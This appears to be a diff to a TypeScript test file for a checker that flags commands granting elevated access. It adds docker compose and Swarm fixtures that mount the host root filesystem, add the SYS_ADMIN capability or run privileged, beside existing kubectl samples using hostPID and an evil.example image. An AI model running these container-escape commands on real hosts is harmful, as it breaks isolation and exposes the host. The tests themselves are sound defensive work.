@@ -386,6 +386,13 @@ const granting: Readonly<Record<string, readonly [command: string, said: string]
     'lets a namespace run privileged pods',
   ],
   'a container to debug': ['kubectl debug node/n --image=busybox --profile=sysadmin -- sh', 'starts a container with more'],
+  'a run of a service with the host': ['docker compose run --rm -v /:/host web sh', 'starts a container with "/:/host"'],
+  'a run of a service with a capability': ['docker-compose run --cap-add=SYS_ADMIN web', 'starts a container with "--cap-add=SYS_ADMIN"'],
+  'a command in a service with all': ['docker compose exec --privileged web sh', 'starts a container with "--privileged"'],
+  'a service of Swarm with the host': [
+    'docker service create --mount type=bind,source=/,target=/h nginx:1.31',
+    'starts a container with "type=bind,source=/,target=/h"',
+  ],
   'an image': ['kubectl set image deployment/web web=evil.example/x:1', 'sets the image "evil.example/x"'],
   'a manifest in a here-document': ['kubectl apply -f - <<EOF\n        spec: {hostPID: true}\n        EOF', 'deploys a text of its own'],
   'a manifest that is printed': [`echo '{"spec":{"hostPID":true}}' | kubectl create -f -`, 'deploys a text of its own'],
@@ -429,6 +436,11 @@ describe('a command by which something gets more', () => {
       'kubectl apply -f https://x.example/r/v1.3.1/p.yaml',
     ],
     ['an image that is built here', 'make', 'docker push ghcr.io/a/web:1; kubectl set image deploy/web web=ghcr.io/a/web:1 x=$IMAGE:2'],
+    [
+      'a run of a service with its own folder',
+      'make',
+      'docker compose run --rm -v ./data:/data -v /srv/x:/x web; docker compose exec web sh',
+    ],
     ['a manifest that gives nothing', 'make', `echo '{"kind":"Namespace"}' | kubectl apply -f -; kubectl run x --image=a --rm`],
     [
       'a binding of a lesser role',
